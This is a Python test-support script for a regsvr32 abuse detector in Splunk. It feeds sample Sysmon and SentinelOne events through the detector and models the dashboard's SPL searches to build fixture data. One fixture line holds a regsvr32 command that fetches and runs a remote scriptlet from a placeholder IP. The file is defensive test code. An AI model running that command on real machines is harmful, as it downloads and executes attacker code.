"""Rows for every data source of the overview dashboard, produced by | regsvr32detect itself.

The events are the bundled samples (tests/data/sample_events.jsonl) plus two ordinary events the
shipped allowlist clears (so the allowlist panel has something to show) and one the detector is
made to fail on (FAILING, for the panel of rows it could not evaluate), each given a _time in the
24 hours before NOW. They go through the command over the real protocol (tests/support/chunked.py).

Without Splunk no SPL runs, so each data source's SPL is modelled by a small Python function
below (the MODELS table), written to do what that SPL does: where, stats, top-N, timechart with
Splunk's automatic 30-minute span for a 24-hour range, mvexpand. The base search's macros are not
re-typed here: `regsvr32_entities` and `regsvr32_targets` are read from macros.conf and applied;
`regsvr32_new_vs_baseline` (in the chain ds_baseline, the only one that reads the lookup) is
modelled as "the signature is not in baseline()" (a small baseline built here: the signatures of
routine activity). Tokens take their defaults (min_score=1, host=*).

    python3 tests/support/dashboard_data.py OUT.json   writes {"now": ..., "dataSources": {id: {fields, columns}}}
"""
import datetime
import fnmatch
import json
import os
import re
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.dirname(HERE))   # tests/: test_conf

from support import chunked  # noqa: E402
from support import events  # noqa: E402
from support import samples  # noqa: E402
from test_conf import conf  # noqa: E402
from regsvr32_detector import tuning  # noqa: E402
from regsvr32_detector.registry import SEVERITIES  # noqa: E402

APP = os.path.join(HERE, os.pardir, os.pardir, "app")
VIEW = os.path.join(APP, "default", "data", "ui", "views", "regsvr32_overview.xml")
ALLOWLIST_SCRIPT = os.path.join(APP, "bin", "regsvr32allowlist.py")
CELLS = ("rule_id",) + tuning.PREFILL   # the regsvr32_cell_* fields the overview's table shows
NOW = 1795867200                       # 2026-11-28 12:00:00 UTC, the render's "now"
EARLIEST = NOW - 24 * 3600             # the time input's default, -24h@h (NOW is on the hour)
SPAN = 1800                            # timechart's automatic span for 24 hours
MIN_SCORE = 1                          # the minimum severity input's default
HOST = "*"                             # the host input's default

EXTRA_EVENTS = [
    # WerFault reporting a regsvr32 crash, and the Teams meeting add-in: both cleared by the
    # shipped allowlist, with its reasons.
    events.sysmon1("C:\\Windows\\system32\\WerFault.exe -u -p 4242 -s 1180",
                   image="C:\\Windows\\System32\\WerFault.exe", parent=events.REGSVR32,
                   computer="ws-eng-11", host="ws-eng-11"),
    events.sysmon1('regsvr32.exe /s /n /i:user "C:\\Users\\bob\\AppData\\Local\\Microsoft\\'
                   'TeamsMeetingAddin\\1.0.23.1\\x64\\Microsoft.Teams.AddinLoader.dll"',
                   parent="C:\\Users\\bob\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
                   user="CORP\\bob", computer="ws-hr-02", host="ws-hr-02"),
]


# A row the detector cannot evaluate, for the panel of such rows: a SentinelOne process start whose
# event type field (event.type) an extraction dropped. It mentions regsvr32, no reader takes it,
# and regsvr32_error says why: the real error path, with the real message.
FAILING = {"tgt.process.cmdline": "regsvr32.exe /s /i:http://198.51.100.23/tasks/update.sct scrobj.dll",
           "endpoint.name": "srv-app-03", "host": "srv-app-03", "sourcetype": "sentinelone:dv"}


def timed_events():
    """Samples and extras spread evenly over the 23 hours before NOW, oldest first, every one
    before NOW (the time range's end: an event after it is in no time bucket, and the tiles would
    count what the charts do not draw). The dashboard reads raw events (`regsvr32_events`), so
    the tstats-shaped sample (Processes.* fields, the saved searches' input) is left out."""
    evs = [dict(e) for e in samples.SAMPLES + EXTRA_EVENTS + [FAILING]
           if not any(k.startswith("Processes.") for k in e)]
    step = 23 * 3600 // len(evs)
    for i, e in enumerate(evs):
        e["_time"] = str(NOW - 23 * 3600 + i * step)
    assert all(EARLIEST <= int(e["_time"]) < NOW for e in evs)
    return evs


def mv(value):
    """A field as Splunk sees it: a list of values; empty means null."""
    if isinstance(value, list):
        return [v for v in value if v != ""]
    return [value] if value not in (None, "") else []


def first(row, name):
    values = mv(row.get(name))
    return values[0] if values else None


def macro(name):
    return conf("macros.conf")[name]["definition"]


def entities(row):
    """`regsvr32_entities`: each eval x=coalesce(a, b, ...) of the macro."""
    for target, args in re.findall(r"(\w+)=coalesce\(([^)]*)\)", macro("regsvr32_entities")):
        row[target] = next((v for v in (first(row, a.strip()) for a in args.split(",")) if v), None)


def targets(row):
    """`regsvr32_targets`: each rex of the macro, max_match>1, so every match (multivalue)."""
    for field, pattern in re.findall(r'rex field=(\w+) max_match=\d+ "((?:[^"\\]|\\.)*)"', macro("regsvr32_targets")):
        regex = re.compile(pattern.replace("(?<", "(?P<").replace('\\"', '"'))
        for m in regex.finditer(first(row, field) or ""):
            for name, value in m.groupdict().items():
                row.setdefault(name, []).append(value)


def baseline(rows):
    """Signatures seen before: those of rows without findings (routine work, allowlisted work)."""
    return {first(r, "regsvr32_signature") for r in rows if r["regsvr32_score"] == "0" and mv(r["regsvr32_signature"])}


def definition():
    with open(VIEW, encoding="utf-8") as f:
        return json.loads(re.search(r"<definition><!\[CDATA\[(.*?)\]\]></definition>", f.read(), re.S).group(1))


def query(ds):
    return definition()["dataSources"][ds]["options"]["query"]


def base(rows):
    """ds_base: ... | regsvr32detect | `regsvr32_entities` | search dest="$host$"
    | where score > 0 OR allowlisted OR error OR signature | `regsvr32_targets` | eval ..."""
    out = []
    for r in rows:
        r = dict(r)
        entities(r)
        if r["dest"] is None or not fnmatch.fnmatchcase(r["dest"].lower(), HOST.lower()):  # search dest="$host$"
            continue
        if not (int(r["regsvr32_score"]) > 0 or mv(r["regsvr32_allowlisted"]) or mv(r["regsvr32_error"])
                or mv(r["regsvr32_signature"])):
            continue
        targets(r)
        r["_drill_earliest"], r["_drill_latest"] = int(r["_time"]) - 300, int(r["_time"]) + 300
        out.append(r)
    return table(out, *re.search(r"\| fields (.*)$", query("ds_base")).group(1).split())


# -- the SPL commands the chains use, on rows of {field: str or list} --

def where_score(rows):
    return [r for r in rows if int(r["regsvr32_score"]) >= MIN_SCORE]


def mvexpand(rows, field):
    return [dict(r, **{field: v}) for r in rows for v in mv(r.get(field))]


def stats(rows, by, **aggs):
    """stats AGG(field) as NAME ... by BY: groups sorted by key, as Splunk's stats returns them."""
    groups = {}
    for r in rows:
        key = first(r, by) if by else ""
        if key is not None:
            groups.setdefault(key, []).append(r)
    if not by and not groups:
        groups[""] = []
    out = []
    for key in sorted(groups):
        row = {by: key} if by else {}
        for name, (fn, field) in aggs.items():
            row[name] = AGGS[fn]([v for r in groups[key] for v in mv(r.get(field))] if field else groups[key])
        out.append(row)
    return out


def _num(values):
    return [float(v) for v in values]


AGGS = {
    "count": len,
    "dc": lambda values: len(set(values)),
    "max": lambda values: max(_num(values)),
    "min": lambda values: min(_num(values)),
    "values": lambda values: sorted(set(values)),
}


def top_sort(rows, *keys):
    """sort 0 - k1 - k2 ... (numeric, descending; ties keep their order) | head 15"""
    return sorted(rows, key=lambda r: [-float(r[k]) for k in keys])[:15]


def timechart(rows, by, limit=None):
    """timechart count by BY [limit=N useother=true]: one row per SPAN from EARLIEST to NOW, zeros
    filled; the N series with the highest totals kept, the rest summed as OTHER."""
    totals = {}
    for r in rows:
        totals[first(r, by)] = totals.get(first(r, by), 0) + 1
    series = sorted(totals)
    if limit and len(series) > limit:
        series = sorted(sorted(series, key=lambda s: -totals[s])[:limit])
    other = [s for s in totals if s not in series]
    out = []
    for start in range(EARLIEST, NOW, SPAN):
        bucket = [r for r in rows if start <= int(r["_time"]) < start + SPAN]
        row = {"_time": start}
        for s in series:
            row[s] = len([r for r in bucket if first(r, by) == s])
        if other:
            row["OTHER"] = len([r for r in bucket if first(r, by) in other])
        row["_span"] = SPAN
        out.append(row)
    return out


def strftime(epoch):
    return datetime.datetime.fromtimestamp(float(epoch), datetime.timezone.utc).strftime("%Y-%m-%d %H:%M:%S")


def table(rows, *names):
    return [{n: r.get(n) for n in names} for r in rows]


def _baseline(b, known):
    """ds_baseline: | `regsvr32_new_vs_baseline` | where regsvr32_new="true" (KNOWN: the baseline)"""
    return [dict(r, regsvr32_new="true") for r in b if first(r, "regsvr32_signature") not in known]


def _newest(b):
    rows = sorted(where_score(b), key=lambda r: -int(r["_time"]))[:100]
    rows = [dict(r, time=strftime(r["_time"])) for r in rows]
    rows = table(rows, "time", "dest", "user", "regsvr32_severity", "regsvr32_score", "regsvr32_reasons",
                 "parent", "process", "_drill_earliest", "_drill_latest")
    renamed = {"regsvr32_severity": "severity", "regsvr32_score": "score", "regsvr32_reasons": "reasons"}
    return [{renamed.get(k, k): v for k, v in r.items()} for r in rows]


def _by_severity(b):
    """timechart count by regsvr32_severity | fields _time critical high ... (most severe first)"""
    rows = timechart(where_score(b), "regsvr32_severity")
    order = ["_time"] + [name for _, name in SEVERITIES if name != "none"] + ["_span"]
    return [{k: r[k] for k in order if k in r} for r in rows]


def _top(b, by):
    rows = [r for r in where_score(b) if mv(r.get(by))]
    return top_sort(stats(mvexpand(rows, by), by, count=("count", None), max_score=("max", "regsvr32_score"),
                          hosts=("dc", "dest")), "max_score", "count")


def _new(b):
    rows = stats(b, "regsvr32_signature",
                 first_time=("min", "_time"), last_time=("max", "_time"), count=("count", None),
                 hosts=("dc", "dest"), dest=("values", "dest"), max_score=("max", "regsvr32_score"))
    rows = sorted(rows, key=lambda r: (-r["max_score"], -r["last_time"]))
    return [dict(r, first_time=strftime(r["first_time"]), last_time=strftime(r["last_time"])) for r in rows]


def _allowlisted(b):
    rows = stats(mvexpand([r for r in b if mv(r.get("regsvr32_allowlisted"))], "regsvr32_allowlisted"),
                 "regsvr32_allowlisted", count=("count", None), hosts=("dc", "dest"), last_seen=("max", "_time"))
    return [dict(r, last_seen=strftime(r["last_seen"])) for r in sorted(rows, key=lambda r: -r["count"])]


def _errors(b):
    rows = stats([r for r in b if mv(r.get("regsvr32_error"))], "regsvr32_error", count=("count", None),
                 last_seen=("max", "_time"), dest=("values", "dest"))
    return [dict(r, last_seen=strftime(r["last_seen"])) for r in rows]


def tune(b):
    """ds_tune: | where score >= min_score AND len(regsvr32_cell_rule_id) > 0 | sort 0 - _time
    | head 50 | eval time | rename regsvr32_cell_* as * | table time dest severity rules CELLS"""
    rows = [r for r in where_score(b) if mv(r.get("regsvr32_cell_rule_id"))]
    rows = sorted(rows, key=lambda r: -int(r["_time"]))[:50]
    rows = [dict(r, time=strftime(r["_time"]), **{c: r.get("regsvr32_cell_" + c) for c in CELLS}) for r in rows]
    return table(rows, "time", "dest", "regsvr32_severity", "regsvr32_rules", *CELLS)


# data source id -> rows, from the rows of the data source it extends; each line mirrors that
# data source's SPL (ds_baseline's is in data_sources(), which holds the baseline)
MODELS = {
    "ds_base": lambda b: b,
    "ds_baseline": None,
    "ds_tune": tune,
    "ds_findings": lambda b: stats(where_score(b), None, count=("count", None)),
    "ds_hosts": lambda b: stats(where_score(b), None, hosts=("dc", "dest")),
    "ds_critical": lambda b: stats([r for r in b if r["regsvr32_severity"] == "critical"], None, count=("count", None)),
    "ds_new_count": lambda b: stats(b, None, new_signatures=("dc", "regsvr32_signature")),
    "ds_error_count": lambda b: stats([r for r in b if mv(r.get("regsvr32_error"))], None, count=("count", None)),
    "ds_by_severity": _by_severity,
    "ds_by_rule": lambda b: timechart(mvexpand(where_score(b), "regsvr32_rules"), "regsvr32_rules", limit=12),
    "ds_newest": _newest,
    "ds_top_hosts": lambda b: top_sort(stats(where_score(b), "dest", count=("count", None),
                                             max_score=("max", "regsvr32_score"),
                                             signatures=("dc", "regsvr32_signature")), "max_score", "count"),
    "ds_top_users": lambda b: _top(b, "user"),
    "ds_top_parents": lambda b: _top(b, "parent"),
    "ds_top_modules": lambda b: _top(b, "module"),
    "ds_top_remotes": lambda b: _top(b, "remote"),
    "ds_new": _new,
    "ds_allowlisted": _allowlisted,
    "ds_errors": _errors,
}


def cell(value, name):
    """A value as Splunk's REST API returns it: strings; _time in ISO form; numbers without '.0'."""
    if value is None:
        return None
    if isinstance(value, list):
        return [cell(v, name) for v in value] if len(value) > 1 else cell(value[0], name) if value else None
    if name == "_time":
        return datetime.datetime.fromtimestamp(int(value), datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.000+00:00")
    if isinstance(value, float) and value.is_integer():
        value = int(value)
    return str(value)


def columns(rows):
    """Rows -> the {fields, columns} form the dashboard framework's data sources carry."""
    names = []
    for r in rows:
        names += [n for n in r if n not in names]
    return {"fields": [{"name": n} for n in names], "columns": [[cell(r.get(n), n) for r in rows] for n in names]}


def command_rows(args=(), script=None):
    """The events through | regsvr32detect (or SCRIPT with ARGS), over the protocol, in two chunks."""
    evs = timed_events()
    result = chunked.run(list(args), [evs[:len(evs) // 2], evs[len(evs) // 2:]],
                         **({"script": script} if script else {}))
    if result.refused or result.returncode or len(result.rows) != len(evs):
        raise AssertionError("the command failed: %s %s" % (result.messages, result.stderr))
    return result.rows


def data_sources():
    # ds_base: ... | regsvr32detect | regsvr32allowlist mode=cells | ...
    rows = command_rows()
    cells = chunked.run(["mode=cells"], [rows], script=ALLOWLIST_SCRIPT)
    if cells.refused or cells.returncode or len(cells.rows) != len(rows):
        raise AssertionError("regsvr32allowlist mode=cells failed: %s %s" % (cells.messages, cells.stderr))
    rows = cells.rows
    found = {"ds_base": base(rows)}
    found["ds_baseline"] = _baseline(found["ds_base"], baseline(rows))
    sources = definition()["dataSources"]
    for ds, model in MODELS.items():
        if ds not in found:
            found[ds] = model(found[sources[ds]["options"]["extend"]])
    return dict((ds, columns(found[ds])) for ds in MODELS)


def main(argv):
    out = {"now": NOW, "earliest": EARLIEST, "dataSources": data_sources()}
    with open(argv[0], "w", encoding="utf-8") as f:
        json.dump(out, f, indent=1)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
